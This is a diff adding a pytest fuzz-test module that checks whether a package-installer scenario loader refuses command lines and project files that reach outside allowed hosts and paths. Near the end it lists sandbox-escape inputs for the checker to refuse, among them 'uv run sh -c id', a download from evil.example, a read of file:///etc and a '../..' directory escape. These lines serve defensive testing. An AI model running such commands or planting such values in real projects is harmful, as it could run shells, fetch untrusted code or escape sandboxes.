@@ -1,0 +1,272 @@
+"""Random command lines and files: refused in words of the project's own, or harmless.
+
+``INDEXCACHE_FUZZ_LINES`` and ``INDEXCACHE_FUZZ_FILES`` are how many, ``INDEXCACHE_FUZZ_SEED``
+repeats a run. What fails is written into ``seeds``, which the ordinary tests replay.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import sys
+import time
+import tomllib
+from collections.abc import Callable, Mapping
+from pathlib import Path
+from random import Random
+from typing import Any, Final
+
+import pytest
+import tomli_w
+
+from pytest_indexcache.errors import ScenarioError
+from pytest_indexcache.messages import HostPort
+from pytest_indexcache.scenario import loads
+from pytest_indexcache.scenario.commands import split_command
+from pytest_indexcache.scenario.commands.grammar import FLAG, INSTALLERS, grammar_of
+from pytest_indexcache.scenario.values.kinds import KINDS, check_value
+from pytest_indexcache.scenario.values.reach import Reach
+
+from .command_lines import command_line
+from .given_files import GivenFile, changed_document, corpus, given_file
+from .hostile import PLAUSIBLE
+from .oracle import SERVED, LeadsOutError, judge_command, judge_requirements, judge_toml
+
+LINES: Final = int(os.environ.get("INDEXCACHE_FUZZ_LINES", "4000"))
+FILES: Final = int(os.environ.get("INDEXCACHE_FUZZ_FILES", "400"))
+SEED: Final = os.environ.get("INDEXCACHE_FUZZ_SEED", "") or f"{time.time_ns() % 10**9}"
+SHARDS: Final = range(2)
+
+SEEDS: Final = Path(__file__).with_name("seeds")
+SCENARIOS: Final = sorted(Path(__file__).parents[3].glob("scenarios/**/*.toml"))
+
+CALLS_OF_LINE: Final = 30_000
+"""The most function calls that the check of a command line may need; 7,300 were seen."""
+CALLS_OF_FILE: Final = 300_000
+"""The most function calls that the loader may need for a scenario of a few KB; 9,000 were seen."""
+SECONDS: Final = 5.0
+"""CPU for one input, which milliseconds suffice for: counts do not see regular expressions."""
+
+REACH: Final = Reach(frozenset(HostPort(*origin) for origin in SERVED), frozenset({"six"}))
+SCENARIO: Final = """\
+title = "A file that a stranger wrote"
+[indexes.a]
+url = "https://a.example/simple"
+[indexes.a.packages.six."1.0"]
+[indexes.b]
+url = "https://b.example:8080/simple"
+[project]
+dependencies = ["six"]
+[[steps]]
+do = "sync"
+expect.installed = { six = "1.0" }
+"""
+
+
+@pytest.fixture(autouse=True, scope="module")
+def _tables_are_read() -> None:
+    """Read the tables and the model once: the calls of that belong to no input."""
+    loads(SCENARIO)
+    for installer in INSTALLERS:
+        grammar_of(installer)
+
+
+@pytest.mark.parametrize("shard", SHARDS)
+@pytest.mark.parametrize("installer", INSTALLERS)
+def test_command_line_is_refused_or_stays_inside(installer: str, shard: int) -> None:
+    """A random command line is a ValueError, or leads nowhere as the installer itself reads it."""
+    random = Random(f"{SEED}-{installer}-{shard}")
+    accepted = 0
+    count = LINES // len(INSTALLERS) // len(SHARDS)
+    for number in range(count):
+        command = command_line(installer, random)
+        seed = {"installer": installer, "command": command}
+        accepted += _kept(seed, is_counted=number % 50 == 0)
+    assert accepted > count / 20, "too few command lines are accepted to say anything"
+
+
+@pytest.mark.parametrize("shard", SHARDS)
+def test_file_is_refused_or_stays_inside(shard: int) -> None:
+    """A random file of a workspace is a ScenarioError, or leads nowhere as installers read it."""
+    random = Random(f"{SEED}-files-{shard}")
+    count = FILES // len(SHARDS)
+    accepted = 0
+    for number in range(count):
+        file = given_file(random)
+        accepted += _kept(file._asdict(), is_counted=number % 50 == 0)
+    assert accepted > count / 50, "too few files are accepted to say anything"
+
+
+@pytest.mark.parametrize("shard", SHARDS)
+def test_scenario_is_read_or_refused(shard: int) -> None:
+    """A scenario of the catalogue with other values is read, or refused by a ScenarioError."""
+    random = Random(f"{SEED}-scenarios-{shard}")
+    for number in range(FILES // len(SHARDS) // 20):
+        document = tomllib.loads(random.choice(SCENARIOS).read_text("utf-8"))
+        for _ in range(random.randint(1, 3)):
+            document = changed_document(document, random)
+        try:
+            text = tomli_w.dumps(document)
+        except (TypeError, ValueError):
+            continue
+        _kept({"scenario": text}, is_counted=number % 50 == 0)
+
+
+@pytest.mark.parametrize("path", sorted(SEEDS.glob("*.json")), ids=lambda path: path.stem)
+def test_seed_is_refused_or_stays_inside(path: Path) -> None:
+    """An input that once broke a check, or led out, does no such thing again."""
+    _judge(json.loads(path.read_text("utf-8")), is_counted=True)
+
+
+def test_oracle_knows_every_seed() -> None:
+    """There are seeds of each of the three sorts, so that none of them is left out unseen."""
+    seeds = [json.loads(path.read_text("utf-8")) for path in SEEDS.glob("*.json")]
+    assert {next(iter(seed)) for seed in seeds} == {"installer", "name", "scenario"}
+
+
+@pytest.mark.parametrize("file", corpus(), ids=lambda file: file.name)
+def test_file_of_the_corpus_is_accepted(file: GivenFile) -> None:
+    """The files that are changed at random are right before: what is accepted is not trivial."""
+    assert _judge(file._asdict())
+
+
+def test_plausible_values_pass_the_checks() -> None:
+    """Every kind of value has examples that are accepted, so that a new kind is not left out."""
+    used = {
+        kind
+        for installer in INSTALLERS
+        for subcommand in grammar_of(installer).subcommands.values()
+        for kind in (*subcommand.options.values(), *subcommand.arguments)
+    }
+    assert used - {FLAG} <= set(PLAUSIBLE)
+    assert set(KINDS) <= set(PLAUSIBLE)
+    for kind in KINDS:
+        for value in PLAUSIBLE[kind]:
+            check_value(kind, value, REACH)
+
+
+def _kept(seed: Mapping[str, Any], *, is_counted: bool) -> bool:
+    """Judge an input; keep it in the folder of seeds if it fails."""
+    try:
+        return _judge(seed, is_counted=is_counted)
+    except BaseException as error:
+        text = json.dumps(seed, indent=2)
+        path = SEEDS / f"{hashlib.sha256(text.encode()).hexdigest()[:12]}.json"
+        path.write_text(f"{text}\n", encoding="utf-8")
+        error.add_note(f"INDEXCACHE_FUZZ_SEED={SEED} made it; it is kept in {path}")
+        raise
+
+
+def _judge(seed: Mapping[str, Any], *, is_counted: bool = False) -> bool:
+    """Return whether an input is accepted.
+
+    :raises AssertionError: if it leads out, or needs too much work; and whatever a check raises
+        beyond its own error
+    """
+    started = time.process_time()
+    if "installer" in seed:
+        accepted = _judge_command(seed["installer"], seed["command"], is_counted)
+    elif "name" in seed:
+        accepted = _judge_file(seed["name"], seed["text"], is_counted)
+    else:
+        accepted = _loads(seed["scenario"], is_counted)
+    assert time.process_time() - started < SECONDS
+    return accepted
+
+
+def _judge_command(installer: str, command: str | list[str], is_counted: bool) -> bool:
+    words: list[str] = []
+
+    def split() -> None:
+        words.extend(split_command(installer, command, REACH))
+
+    try:
+        _run(split, CALLS_OF_LINE if is_counted else 0)
+    except ValueError:
+        return False
+    judge_command(installer, words)
+    return True
+
+
+def _judge_file(name: str, text: str, is_counted: bool) -> bool:
+    if not _loads(f'{SCENARIO}[files]\n"project/{name}" = {_quoted(text)}\n', is_counted):
+        return False
+    if name.endswith(".txt"):
+        judge_requirements(text)
+    else:
+        judge_toml(text)
+    return True
+
+
+def _loads(text: str, is_counted: bool) -> bool:
+    try:
+        _run(lambda: loads(text, Path("s.toml")), CALLS_OF_FILE if is_counted else 0)
+    except ScenarioError as error:
+        refusal = str(error)
+    else:
+        return True
+    assert all(line.isprintable() and len(line) < 3000 for line in refusal.splitlines())
+    return False
+
+
+def _quoted(text: str) -> str:
+    return tomli_w.dumps({"x": text}).removeprefix("x = ").strip()
+
+
+def _run(act: Callable[[], object], most_calls: int) -> None:
+    """Call a function; with a limit, demand that it calls no more functions than that."""
+    if not most_calls:
+        act()
+        return
+    calls = 0
+
+    def count(_frame: object, event: str, _argument: object) -> None:
+        nonlocal calls
+        calls += event in ("call", "c_call")
+
+    before = sys.getprofile()
+    sys.setprofile(count)
+    try:
+        act()
+    finally:
+        sys.setprofile(before)
+    assert calls <= most_calls
+
+
+@pytest.mark.parametrize(
+    ("installer", "command"),
+    [
+        ("uv", "uv pip install --target=/abs six"),
+        ("uv", "uv sync --directory ../.."),
+        ("uv", "uv run sh -c id"),
+        ("uv", "uv -q pip install -rfile:///etc/x.txt"),
+        ("pip", "pip install -qt/abs six"),
+        ("pip", "pip download https://evil.example/x"),
+        ("poetry", "poetry -C sync run sh -c id"),
+        ("pdm", "pdm add -e git+https://a.example/x"),
+    ],
+)
+def test_oracle_finds_a_way_out(installer: str, command: str) -> None:
+    """A command line that the check refuses is one that the oracle would not let pass either."""
+    with pytest.raises(LeadsOutError):
+        judge_command(installer, command.split()[1:])
+    with pytest.raises(ValueError, match=r"is not|may only|no index|write another"):
+        split_command(installer, command, REACH)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '[tool.uv.pip]\ntarget = "x"',
+        '[build-system]\nbuild-backend = "os"',
+        '[tool.uv.sources]\nx = { path = "../../x" }',
+        '[project]\ndependencies = ["x @ git+git://127.0.0.1/x"]',
+        '[[tool.uv.index]]\nurl = "https://evil.example/"',
+    ],
+)
+def test_oracle_finds_a_way_out_of_a_file(text: str) -> None:
+    """A file that the check refuses is one that the oracle would not let pass either."""
+    with pytest.raises(LeadsOutError):
+        judge_toml(text)
+    assert not _loads(f'{SCENARIO}[files]\n"project/pyproject.toml" = {_quoted(text)}\n', False)
